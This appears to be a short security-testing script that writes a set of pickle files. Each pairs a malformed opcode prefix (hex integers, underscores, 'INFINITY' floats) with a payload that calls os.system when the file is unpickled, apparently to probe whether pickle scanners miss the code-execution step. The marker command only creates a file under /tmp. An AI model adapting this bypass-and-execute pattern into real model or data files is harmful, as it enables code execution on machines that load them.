def p0(name):
    return b"cos\nsystem\n(S'touch /tmp/rt15/pwned_%s'\ntR." % name.encode()
cases = {
 "int_hex": b"I0x10\n0",
 "int_octal": b"I0o17\n0",
 "int_bin": b"I0b1\n0",
 "long_hex": b"L0x10L\n0",
 "put_underscore": b"Np1_0\n0",
 "get_underscore": b"Np10\ng1_0\n00",
 "float_inf_caps": b"FINFINITY\n0",
 "float_underscore": b"F1_0\n0",
 "int_space": b"I 12\n0",
 "put_plus": b"Np+1\n0",
}
for k,v in cases.items():
    open(f"fn_vm_{k}.pkl","wb").write(v + p0("vm_"+k))
